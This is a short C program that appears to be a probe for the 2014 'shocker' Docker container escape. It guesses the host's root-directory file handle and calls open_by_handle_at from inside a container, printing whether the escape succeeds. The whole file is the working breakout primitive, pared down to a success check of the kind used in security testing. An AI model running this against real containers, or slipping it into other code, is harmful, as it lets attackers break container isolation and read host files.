/* shocker: the 2014 escape: open_by_handle_at with a guessed handle of the host's root
 * directory (ext4 inode 2), from a mount fd inside the container. Needs CAP_DAC_READ_SEARCH
 * in the initial user namespace. Prints "rc=0" (escaped) or "rc=errno N". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

int main(void) {
    struct file_handle *h = malloc(sizeof(*h) + 8);
    h->handle_bytes = 8;
    h->handle_type = 1;              /* FILEID_INO32_GEN */
    unsigned int ino = 2, gen = 0;
    memcpy(h->f_handle, &ino, 4);
    memcpy(h->f_handle + 4, &gen, 4);
    int mfd = open("/", O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(mfd, h, O_RDONLY);
    if (fd >= 0) printf("rc=0\n");
    else printf("rc=errno %d\n", errno);
    return 0;
}
